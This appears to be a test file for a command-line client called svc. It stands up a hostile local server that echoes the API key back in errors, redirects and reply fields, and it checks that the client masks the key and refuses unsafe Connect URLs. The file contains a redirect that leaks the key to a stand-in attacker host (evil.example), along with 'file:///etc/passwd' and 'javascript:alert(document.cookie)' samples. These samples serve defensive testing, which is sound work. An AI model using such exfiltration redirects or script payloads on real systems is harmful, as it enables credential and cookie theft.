// Secrets against a hostile service: a loopback server that echoes the key it was sent back in
// every place it can (error fields, the request id, a redirect, reply fields, JSON-escaped, split
// across lines), and hands out Connect URLs a browser must not open. Nothing svc writes may carry
// the key. Also: `webhooks listen --forward-to` sends deliveries in clear text only to loopback.
import { chmodSync, existsSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { unwrapped } from '../support/unwrapped.js';
import { inTerminal, STACK_LINE, svcCommand, useWorld } from './harness.js';

const world = useWorld();
const KEY = 'svc_sk_test_5e1f0c2d9a8b7e6f5e1f0c2d9a8b7e6f';
const MASKED = 'svc_sk_test_…7e6f';

/** The key with every character JSON-escaped, and with its first underscore alone escaped. */
const escapedWhole = (key: string) =>
  [...key].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const escapedOnce = (key: string) => key.replace('_', '\\u005f');

/**
 * Whether a text gives the key away, or most of its secret part (a table may cut a long value), to
 * someone reading it: escapes undone, and what is not a character of a key (spaces, line breaks,
 * table borders) left out.
 */
function exposesKey(text: string): boolean {
  const decoded = text
    .replace(/\\u([0-9a-fA-F]{4})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)))
    .replace(/%([0-9a-fA-F]{2})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)))
    .replace(/\\[nrt]/g, '')
    .replace(/[^A-Za-z0-9_]/g, '');
  const secret = KEY.slice('svc_sk_test_'.length);
  return (
    decoded.includes(KEY) ||
    decoded.includes(secret.slice(0, 12)) ||
    decoded.includes(secret.slice(-12))
  );
}

let connectUrl = 'https://connect.example.com/start?token=creq_1';

/** What the hostile service answers, the key it was sent echoed back wherever it fits. */
function hostile(server: Server): void {
  server.on('request', (req, res) => {
    const key = (req.headers.authorization ?? '').replace(/^Bearer /, '');
    const path = new URL(req.url ?? '/', 'http://x').pathname;
    const send = (status: number, raw: string, headers: Record<string, string> = {}) => {
      res.writeHead(status, {
        'Content-Type': 'application/json',
        'X-Request-Id': `req_${key}`,
        ...headers,
      });
      res.end(raw);
    };
    req.resume();
    req.on('end', () => {
      if (path === '/v1/usage') {
        const half = key.length >> 1;
        send(
          401,
          `{"error_type":"AUTHENTICATION_ERROR","error_code":"INVALID_API_KEY","error_message":"The key ${key.slice(0, half)}\\n${key.slice(half)} is not valid.",` +
            `"suggested_action":"Replace ${escapedOnce(key)}.","request_id":"req_${escapedWhole(key)}","documentation_url":"https://docs.example.com/?k=${key}"}`,
        );
      } else if (path === '/v1/reports/rpt_redirect') {
        send(302, '', { Location: `https://evil.example/collect?key=${key}` });
      } else if (path === '/v1/reports/rpt_echo') {
        send(
          200,
          `{"report_id":"rpt_echo","status":"complete","bank_code":"NABIL","account_holder":"${key}","note":"you sent ${escapedOnce(key)}",` +
            `"${key}":"a field named by the key","long_text":"${'words '.repeat(20)}${key} ${'more '.repeat(20)}"}`,
        );
      } else if (path === '/v1/data/cbank/banking/pnl/latest') {
        const items = [
          {
            key: 'pnl.echo',
            line_item: `Interest paid on the account of ${key} this month`,
            value: 1,
            unit: 'NPR_mn',
          },
        ];
        send(
          200,
          JSON.stringify({
            data: { month: '2025-07', line_items: items },
            meta: { attribution: 'Source: a hostile service' },
          }),
        );
      } else if (path === '/v1/connect/request') {
        send(200, JSON.stringify({ request_token: 'creq_1', connect_url: connectUrl }));
      } else {
        send(404, '{"error_code":"NOT_FOUND","error_message":"no such route"}');
      }
    });
  });
}

let server: Server;
let baseUrl: string;

beforeAll(async () => {
  server = createServer();
  hostile(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  server.closeAllConnections();
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

const svc = (args: string[], env: Record<string, string> = {}) =>
  world.svc(['--retries', '0', ...args], {
    env: { SVC_BASE_URL: baseUrl, SVC_API_KEY: KEY, ...env },
  });

describe('a key echoed by the service is masked in everything svc writes', () => {
  it('in an error: message (split across a line), suggested action (JSON-escaped), request id, docs address', async () => {
    const r = await svc(['usage']);
    expect(r.code).toBe(3);
    expect(exposesKey(r.stderr), r.stderr).toBe(false);
    expect(r.stderr).toContain(`error: INVALID_API_KEY: The key ${MASKED} is not valid.`);
    expect(r.stderr).toContain(`Replace ${MASKED}.`);
    expect(r.stderr).toContain(`Request ID: req_${MASKED}`);
    expect(r.stdout).toBe('');
  });

  it('in the error envelope printed under --json, and in the --debug trace', async () => {
    for (const args of [
      ['usage', '--json'],
      ['usage', '--debug'],
      ['usage', '-o', 'ndjson', '--debug'],
    ]) {
      const r = await svc(args);
      expect(r.code).toBe(3);
      expect(exposesKey(r.stderr), r.stderr).toBe(false);
      expect(exposesKey(r.stdout)).toBe(false);
      expect(r.stderr).not.toMatch(STACK_LINE);
    }
  });

  it('in a redirect address', async () => {
    const r = await svc(['reports', 'get', 'rpt_redirect']);
    expect(r.code).toBe(10);
    expect(r.stderr).toContain(`https://evil.example/collect?key=${MASKED}`);
    expect(exposesKey(r.stderr), r.stderr).toBe(false);
  });

  it.each([[[]], [['-o', 'csv']], [['-o', 'ndjson']]])(
    'in reply fields, as a table or records (%j)',
    async (format) => {
      const r = await svc(['reports', 'get', 'rpt_echo', ...format]);
      expect(r.code, r.stderr).toBe(0);
      expect(exposesKey(r.stdout), r.stdout).toBe(false);
      expect(r.stdout).toContain(MASKED);
    },
  );

  it('in a table a terminal wraps across lines', async () => {
    const r = await inTerminal(`${svcCommand} data latest pnl --no-cache`, {
      configDir: world.dir,
      env: { SVC_BASE_URL: baseUrl, SVC_API_KEY: KEY },
    });
    expect(r.code, r.stdout).toBe(0);
    expect(r.stdout).toMatch(/│ pnl\.echo │ Interest paid/);
    expect(exposesKey(r.stdout), r.stdout).toBe(false);
  });

  it('under --json and in `svc api`: masked, and said once on stderr', async () => {
    for (const args of [
      ['reports', 'get', 'rpt_echo', '--json'],
      ['api', 'GET', '/v1/reports/rpt_echo'],
    ]) {
      const r = await svc(args);
      expect(r.code, r.stderr).toBe(0);
      expect(exposesKey(r.stdout), r.stdout).toBe(false);
      expect(JSON.parse(r.stdout)).toMatchObject({
        account_holder: MASKED,
        note: `you sent ${MASKED}`,
        [MASKED]: 'a field named by the key',
      });
      expect(r.stderr).toBe(
        'warning: the output held a secret in use (the API key or a token): it is masked\n',
      );
    }
  });
});

describe('connect --open and --qr take only an https address (or http to this machine)', () => {
  function browser(): { env: Record<string, string>; opened: string } {
    const dir = world.tempDir();
    const opened = join(dir, 'opened.txt');
    const script = join(dir, 'browser.sh');
    writeFileSync(script, `#!/bin/sh\nprintf '%s' "$1" > ${JSON.stringify(opened)}\n`);
    chmodSync(script, 0o755);
    return { env: { BROWSER: script, DISPLAY: ':0' }, opened };
  }

  it.each([
    ['file:///etc/passwd', 'uses the scheme file:'],
    ['javascript:alert(document.cookie)', 'uses the scheme javascript:'],
    ['http://evil.example/connect?token=creq_1', 'http to evil.example'],
    ['/connect?token=creq_1', 'not an absolute URL'],
  ])('refuses %s (exit 10, one line), opening nothing', async (url, why) => {
    connectUrl = url;
    for (const flag of ['--open', '--qr']) {
      const { env, opened } = browser();
      const r = await svc(
        ['connect', '--scopes', 'identity', '--redirect-uri', 'https://app.example.com/done', flag],
        env,
      );
      expect(r.code).toBe(10);
      expect(unwrapped(r.stderr).trimEnd().split('\n')).toHaveLength(1);
      expect(unwrapped(r.stderr)).toMatch(
        /^error: (refusing to open the connect_url of the reply|the connect_url of the reply is not an absolute URL)/,
      );
      expect(unwrapped(r.stderr)).toContain(why);
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(existsSync(opened)).toBe(false);
    }
  });

  it('opens https, and http to loopback', async () => {
    for (const url of [
      'https://connect.example.com/start?token=creq_1',
      'http://localhost:4010/connect?token=creq_1',
    ]) {
      connectUrl = url;
      const r = await svc([
        'connect',
        '--scopes',
        'identity',
        '--redirect-uri',
        'https://app.example.com/done',
        '--qr',
        '--json',
      ]);
      expect(r.code, r.stderr).toBe(0);
      expect(JSON.parse(r.stdout).connect_url).toBe(url);
    }
  });
});

describe('webhooks listen --forward-to', () => {
  it.each(['http://example.com/hooks', 'http://10.0.0.7:3000/hooks', 'http://[fe80::1]/hooks'])(
    'refuses clear text off this machine: %s (exit 2)',
    async (url) => {
      const r = await world.bare([
        'webhooks',
        'listen',
        '--port',
        '0',
        '--secret',
        'whsec_forward_test',
        '--forward-to',
        url,
      ]);
      expect(r.code).toBe(2);
      expect(unwrapped(r.stderr)).toMatch(
        /^error: --forward-to ".*" uses http to .*; use https \(http is only for localhost, 127\.0\.0\.1 or ::1\)\n$/,
      );
    },
  );
});
